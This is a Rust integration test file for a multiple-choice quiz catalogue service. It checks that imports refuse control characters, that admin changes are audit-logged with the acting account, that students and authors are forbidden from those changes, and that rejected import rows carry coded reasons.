    let english_of_approved = catalogue::create_item(&db, &mallory, english, epoch()).await;
    assert!(
        english_of_approved.is_ok()
            || matches!(&english_of_approved, Err(CatalogueError::Invalid(e)) if e[0].code == "same_locale"),
        "{english_of_approved:?}"
    );
    let own_row = myqcm_db::catalogue::item_by_id(&*db, own.id)
        .await
        .unwrap()
        .unwrap();
    let secret_row = myqcm_db::catalogue::item_by_id(&*db, secret.id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        own_row.translation_group_id,
        secret_row.translation_group_id
    );
}

/// Text with control characters is refused at the import boundary too, naming where it is:
/// PostgreSQL cannot store a NUL, and one such cell used to fail the whole import as a
/// database error (retried by the job, then dead).
#[tokio::test]
async fn imports_refuse_text_with_control_characters_naming_the_place() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let csv = format!(
        "{CSV_HEAD}{}{}",
        csv_row(1),
        csv_row(2).replace("Option B 2", "Option\u{0}B")
    );
    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
    assert!(!r.committed);
    assert_eq!(r.errors.len(), 1, "{r:?}");
    assert_eq!(
        (r.errors[0].row, r.errors[0].column.as_str()),
        (3, "option2")
    );
    let mut bank = import::export::bank(&db).await.unwrap();
    bank.items.truncate(2);
    bank.items[1].explanation = "bell \u{7} here".into();
    let bytes = import::export::write(&bank, Format::Json).unwrap();
    let r = import_with_defaults(&db, &bytes, Format::Json).await;
    assert!(!r.committed);
    assert_eq!(r.errors[0].column, "items[1].explanation", "{r:?}");
}

/// The audit rows named `action`, newest first.
async fn audit_rows(
    db: &myqcm_db::DatabaseConnection,
    action: &str,
) -> Vec<myqcm_db::identity::audit::AuditRow> {
    let f = myqcm_db::identity::audit::AuditFilter {
        action: Some(action.to_owned()),
        ..Default::default()
    };
    myqcm_db::identity::audit::search(db, &f, 50, 0)
        .await
        .unwrap()
}

#[tokio::test]
async fn catalogue_admin_changes_are_audit_logged_with_the_acting_account() {
    use catalogue::manage::{self, CourseInput, FacultyInput, KcInput, NamesInput, SubjectInput};
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let admin = content_admin();
    let names = |fr: &str| NamesInput {
        fr: fr.into(),
        ..NamesInput::default()
    };

    // Blueprint (the JSON API's use case).
    let mut weights = catalogue::curriculum::blueprint(&db, 3, None)
        .await
        .unwrap()
        .weights;
    weights.subjects.iter_mut().for_each(|s| s.kcs.clear());
    let bp = catalogue::curriculum::put_blueprint(
        &db,
        Some(&admin),
        3,
        None,
        "Audited",
        &weights,
        epoch(),
    )
    .await
    .unwrap();
    let rows = audit_rows(&db, "catalogue.blueprint_saved").await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].actor_id, Some(admin.id));
    assert_eq!(rows[0].target.as_deref(), Some("blueprint:3"));
    assert!(
        rows[0]
            .detail
            .as_deref()
            .unwrap()
            .contains(&format!("\"version\":{}", bp.version))
    );

    // Institutions, through the API's bulk use case and the console's one-row ones.
    let list: Vec<catalogue::curriculum::UniversityView> = serde_json::from_value(
        serde_json::json!([{"code": "u-test", "name": "Université test", "faculties": []}]),
    )
    .unwrap();
    catalogue::curriculum::upsert_institutions(&db, &admin, &list, epoch())
        .await
        .unwrap();
    let rows = audit_rows(&db, "catalogue.institutions_saved").await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].actor_id, Some(admin.id));
    manage::save_university(&db, &admin, "u-test", "Université renommée", epoch())
        .await
        .unwrap();
    let fac = FacultyInput {
        university: "u-test".into(),
        code: "f-test".into(),
        name: "Faculté test".into(),
        field: "pharmacy".into(),
    };
    manage::save_faculty(&db, &admin, &fac, epoch())
        .await
        .unwrap();
    let unis = manage::staff_institutions(&db, &admin).await.unwrap();
    let u = unis.iter().find(|u| u.code == "u-test").unwrap();
    assert_eq!(u.name, "Université renommée");
    assert_eq!(u.faculties[0].field, "pharmacy");
    for (action, target) in [
        ("catalogue.university_saved", "u-test"),
        ("catalogue.faculty_saved", "f-test"),
    ] {
        let rows = audit_rows(&db, action).await;
        assert_eq!(rows.len(), 1, "{action}");
        assert_eq!(rows[0].actor_id, Some(admin.id));
        assert_eq!(rows[0].target.as_deref(), Some(target));
    }

    // Curriculum and KC tree.
    let mut subject = SubjectInput {
        code: "cardio".into(),
        year: 3,
        unit: String::new(),
        names: names("Cardiologie (renommée)"),
    };
    // Year 3 needs a unit: refused with the field named, nothing logged.
    let Err(CatalogueError::Invalid(errs)) =
        manage::save_subject(&db, &admin, &subject, epoch()).await
    else {
        panic!("a year-3 subject without a unit is refused");
    };
    assert_eq!(errs[0].field, "unit");
    assert!(audit_rows(&db, "catalogue.subject_saved").await.is_empty());
    let tree = catalogue::curriculum::tree(&db, Some(3)).await.unwrap();
    let cardio = tree.subjects.iter().find(|s| s.code == "cardio").unwrap();
    subject.unit = tree
        .units
        .iter()
        .find(|u| Some(u.id) == cardio.unit_id)
        .unwrap()
        .code
        .clone();
    manage::save_subject(&db, &admin, &subject, epoch())
        .await
        .unwrap();
    let tree = catalogue::curriculum::tree(&db, Some(3)).await.unwrap();
    let cardio = tree.subjects.iter().find(|s| s.code == "cardio").unwrap();
    assert_eq!(cardio.names["fr"], "Cardiologie (renommée)");
    let course = CourseInput {
        code: "cardio-new".into(),
        subject: "cardio".into(),
        names: names("Nouveau cours"),
    };
    manage::save_course(&db, &admin, &course, epoch())
        .await
        .unwrap();
    let kc = KcInput {
        subject: "cardio".into(),
        code: "kc-cardio-hta-def".into(),
        level: "kc".into(),
        parent: catalogue::curriculum::kc_tree(&db, "cardio")
            .await
            .unwrap()
            .iter()
            .rfind(|n| n.level == "topic")
            .unwrap()
            .code
            .clone(),
        names: names("Définition (déplacée)"),
    };
    manage::save_kc(&db, &admin, &kc, epoch()).await.unwrap();
    let tree = catalogue::curriculum::kc_tree(&db, "cardio").await.unwrap();
    let moved = tree.iter().find(|n| n.code == "kc-cardio-hta-def").unwrap();
    let parent = tree.iter().find(|n| n.code == kc.parent).unwrap();
    assert_eq!(moved.parent_id, Some(parent.id));
    for (action, target) in [
        ("catalogue.subject_saved", "cardio"),
        ("catalogue.course_saved", "cardio-new"),
        ("catalogue.kc_saved", "kc-cardio-hta-def"),
    ] {
        let rows = audit_rows(&db, action).await;
        assert_eq!(rows.len(), 1, "{action}");
        assert_eq!(rows[0].actor_id, Some(admin.id));
        assert_eq!(rows[0].target.as_deref(), Some(target));
    }

    // A taxonomy document.
    let bank = import::bank::Bank {
        year_of_study: Some(3),
        ..Default::default()
    };
    assert!(
        import::apply_taxonomy(&db, &admin, &bank, epoch())
            .await
            .unwrap()
            .committed
    );
    let rows = audit_rows(&db, "catalogue.taxonomy_applied").await;
    assert_eq!(rows[0].actor_id, Some(admin.id));

    // Learners and authors are refused, and nothing more is logged.
    for who in [actor(&[Role::Student]), actor(&[Role::Author])] {
        assert!(matches!(
            manage::save_university(&db, &who, "u-x", "X", epoch()).await,
            Err(CatalogueError::Forbidden)
        ));
        assert!(matches!(
            manage::staff_institutions(&db, &who).await,
            Err(CatalogueError::Forbidden)
        ));
    }
    assert_eq!(audit_rows(&db, "catalogue.university_saved").await.len(), 1);
}

#[tokio::test]
async fn every_rejected_row_carries_a_machine_reason_and_the_value_it_names() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let mut bank = import::export::bank(&db).await.unwrap();
    let qcs = bank
        .items
        .iter()
        .find(|i| i.kind == "qcs" && i.translation_of.is_none())
        .unwrap()
        .clone();
    let row = |n: usize, f: &dyn Fn(&mut import::bank::BankItem)| {
        let mut i = qcs.clone();
        i.external_id = Some(format!("coded-{n}"));
        i.stem = format!("ZZCODED {n} ?");
        f(&mut i);
        i
    };
    bank.items = vec![
        row(1, &|i| i.course = "nowhere-101".into()),
        row(2, &|i| {
            for o in &mut i.options {
                o.correct = true;
            }
        }),
        row(3, &|i| i.kcs[0].kc = "kc-nowhere".into()),
        row(4, &|i| i.difficulty = "brutal".into()),
    ];
    bank.clinical_cases.clear();
    let bytes = import::export::write(&bank, Format::Json).unwrap();
    let r = import_with_defaults(&db, &bytes, Format::Json).await;
    assert!(!r.committed);
    let got: Vec<(usize, &str, Option<&str>, Option<&str>)> = r
        .errors
        .iter()
        .map(|e| {
            (
                e.row,
                e.column.as_str(),
                e.code.as_deref(),
                e.value.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (1, "course", Some("unknown_course"), Some("nowhere-101")),
            (2, "options", Some("qcs_one_correct"), None),
            (3, "kcs", Some("unknown_kc"), Some("kc-nowhere")),
            (4, "difficulty", Some("unknown"), Some("brutal")),
        ],
        "{r:?}"
    );
    // The English text stays for the CLI and the logs.
    assert!(r.errors.iter().all(|e| !e.reason.is_empty()));
}
